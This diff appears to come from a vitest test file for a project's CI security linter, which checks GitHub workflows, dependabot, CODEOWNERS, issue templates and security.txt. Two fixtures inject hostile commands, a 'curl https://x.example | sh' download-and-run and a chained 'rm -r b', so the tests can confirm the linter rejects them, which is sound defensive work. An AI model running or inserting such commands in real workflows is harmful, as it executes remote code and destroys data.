@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
-import { dateFaults, textFaults } from '../supply-chain/security-text';
+import { dateProblems, textProblems } from '../supply-chain/security-text';
 import { filesBelow } from '../lint/project';
 import { nodeVersions } from '../../data/node-versions';
 import { security } from '../../data/security';
@@ -37,8 +37,8 @@ type Change = [from: string | RegExp, to: string];
 const HASH = /@[0-9a-f]{40} # v\d+\.\d+\.\d+/;
 
 const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = [
-  { name: 'an action by its tag', file: PULL_REQUEST, change: [HASH, '@v5'], finds: /pinned .*"actions\/checkout@v5" is not pinned/ },
-  { name: 'a hash without its version', file: PULL_REQUEST, change: [/ # v5\.0\.0/, ''], finds: /pinned the hash does not say/ },
+  { name: 'an action by its tag', file: PULL_REQUEST, change: [HASH, '@v5'], finds: /pinned .*"actions\/checkout@v5" isn't pinned/ },
+  { name: 'a hash without its version', file: PULL_REQUEST, change: [/ # v5\.0\.0/, ''], finds: /pinned the hash doesn't say/ },
   {
     name: 'a machine that changes',
     file: PULL_REQUEST,
@@ -60,18 +60,23 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     change: ['permissions: {}', 'permissions: write-all'],
     finds: /permissions every job of the workflow/,
   },
-  { name: 'no word on rights', file: PULL_REQUEST, change: ['permissions: {}\n', ''], finds: /permissions the workflow takes every right/ },
+  {
+    name: 'no word on rights',
+    file: PULL_REQUEST,
+    change: ['permissions: {}\n', ''],
+    finds: /permissions the workflow has all permissions/,
+  },
   {
     name: 'a job without rights',
     file: PULL_REQUEST,
     change: [/ {4}permissions:\n {6}contents: read\n/, ''],
-    finds: /permissions check: it does not say/,
+    finds: /permissions check: it has no permissions block/,
   },
   {
     name: 'foreign code that may write',
     file: PULL_REQUEST,
     change: ['contents: read', 'contents: write'],
-    finds: /permissions check: code of outsiders could write contents/,
+    finds: /permissions check: outsiders' code could write contents/,
   },
   {
     name: 'foreign code with our rights',
@@ -90,13 +95,13 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     name: 'a command of its own',
     file: PULL_REQUEST,
     change: ['run: npm run check\n', 'run: curl https://x.example | sh\n'],
-    finds: /command .*no script of ours/,
+    finds: /command .*isn't one of our scripts/,
   },
   {
     name: 'a second command behind',
     file: PULL_REQUEST,
     change: ['run: npm run check\n', 'run: npm run check -- a; rm -r b\n'],
-    finds: /command .*no script of ours/,
+    finds: /command .*isn't one of our scripts/,
   },
   {
     name: 'a script that is missing',
@@ -114,7 +119,7 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     name: 'a file outside of the folder',
     file: PULL_REQUEST,
     change: ['src/tooling/ci/sbom.ts', 'src/tooling/ci/../commands/build.ts'],
-    finds: /command .*no script of ours/,
+    finds: /command .*isn't one of our scripts/,
   },
   {
     name: 'foreign code where a comment is written',
@@ -156,7 +161,7 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     name: 'a secret that code of outsiders can read',
     file: PULL_REQUEST,
     change: ['run: npm run check\n', 'run: npm run check\n        env:\n          KEY: ${{ secrets.KEY }}\n'],
-    finds: /permissions check: code of outsiders could read a secret/,
+    finds: /permissions check: outsiders' code could read a secret/,
   },
   { name: 'a variable that is none', file: COMMENT, change: ['${{ runner.temp }}', '${{ runner.attic }}'], finds: /expression .*attic/ },
   { name: 'no YAML', file: COMMENT, change: ['permissions: {}', 'permissions: {'], finds: /^syntax / },
@@ -183,11 +188,11 @@ const TEAM_FAULTS: { name: string; file: string; change: Change; finds: string }
     name: 'updates on the first day',
     file: 'dependabot.yml',
     change: ['default-days: 7', 'default-days: 0'],
-    finds: 'npm takes versions on the day',
+    finds: 'npm updates to versions on the day',
   },
-  { name: 'actions that stay old', file: 'dependabot.yml', change: ['github-actions', 'docker'], finds: 'github-actions is not updated' },
+  { name: 'actions that stay old', file: 'dependabot.yml', change: ['github-actions', 'docker'], finds: "github-actions isn't updated" },
   { name: 'an owner of nothing', file: 'CODEOWNERS', change: ['/samples/', '/sample/'], finds: 'there is no /sample/' },
-  { name: 'an owner of elsewhere', file: 'CODEOWNERS', change: ['@partita/docs', 'me@mail.example'], finds: '* has no team of ours' },
+  { name: 'an owner of elsewhere', file: 'CODEOWNERS', change: ['@partita/docs', 'me@mail.example'], finds: '* has no team' },
   {
     name: 'a form without labels',
     file: 'ISSUE_TEMPLATE/api.yml',
@@ -204,14 +209,19 @@ const TEAM_FAULTS: { name: string; file: string; change: Change; finds: string }
     name: 'a choice of nothing',
     file: 'ISSUE_TEMPLATE/missing.yml',
     change: [/options: \[.*?\]/, 'options: []'],
-    finds: 'a choice has no options',
+    finds: 'a dropdown has no options',
   },
-  { name: 'an unknown field', file: 'ISSUE_TEMPLATE/page.yml', change: ['type: input', 'type: slider'], finds: 'a field is none of' },
+  {
+    name: 'an unknown field',
+    file: 'ISSUE_TEMPLATE/page.yml',
+    change: ['type: input', 'type: slider'],
+    finds: "the type of a field isn't one of",
+  },
   {
     name: 'a foreign address',
     file: 'ISSUE_TEMPLATE/config.yml',
     change: ['docs.partita.example', 'docs.partita.dev'],
-    finds: 'is no host of ours',
+    finds: "isn't one of our hosts",
   },
 ];
 
@@ -230,25 +240,25 @@ for (const { name, file, change, finds } of TEAM_FAULTS)
 const TEXT = read('static/.well-known/security.txt');
 
 test('security.txt says what the project says, and so does SECURITY.md', () => {
-  expect(textFaults(TEXT)).toEqual([]);
+  expect(textProblems(TEXT)).toEqual([]);
   expect(read('SECURITY.md')).toContain(security.contact);
   expect(read('docs/technical-support/contact.mdx')).toContain(security.contact);
 });
 
 test('found in security.txt', () => {
-  const faultsOf = (from: string | RegExp, to: string): string => textFaults(TEXT.replace(from, to)).join('\n');
-  expect(faultsOf('security@partita.example', 'me@partita.example')).toContain('It lacks "contact: mailto:security@');
-  expect(faultsOf(/Expires:.*\n/, '')).toContain('0 lines "Expires:"');
-  expect(faultsOf('2027-11-15T00:00:00.000Z', 'November 15')).toContain('is no date');
-  expect(faultsOf('Policy: https', 'Policy: http')).toContain('neither https: nor mailto:');
-  expect(faultsOf('Policy:', 'Polcy:')).toContain('"polcy" is no field');
+  const problemsOf = (from: string | RegExp, to: string): string => textProblems(TEXT.replace(from, to)).join('\n');
+  expect(problemsOf('security@partita.example', 'me@partita.example')).toContain('"contact: mailto:security@');
+  expect(problemsOf(/Expires:.*\n/, '')).toContain('0 lines "Expires:"');
+  expect(problemsOf('2027-11-15T00:00:00.000Z', 'November 15')).toContain("isn't a date");
+  expect(problemsOf('Policy: https', 'Policy: http')).toContain('neither https: nor mailto:');
+  expect(problemsOf('Policy:', 'Polcy:')).toContain('"polcy" isn\'t a field');
 });
 
 test('the weekly check requests a new date a month before expiry', () => {
-  const on = (day: string): string => dateFaults(TEXT, new Date(day)).join('\n');
+  const on = (day: string): string => dateProblems(TEXT, new Date(day)).join('\n');
   expect(on('2027-10-16T00:00:00Z')).toBe('');
-  expect(on('2027-10-17T00:00:00Z')).toContain('It ends in 29 days');
-  expect(on('2027-12-01T00:00:00Z')).toContain('It ended 16 days ago');
+  expect(on('2027-10-17T00:00:00Z')).toContain('It expires in 29 days');
+  expect(on('2027-12-01T00:00:00Z')).toContain('It expired 16 days ago');
   expect(on('2026-01-01T00:00:00Z')).toContain('less than a year');
-  expect(dateFaults('Contact: mailto:a@partita.example', new Date())).toEqual(['It has no date of its end.']);
+  expect(dateProblems('Contact: mailto:a@partita.example', new Date())).toEqual(['It has no expiry date.']);
 });
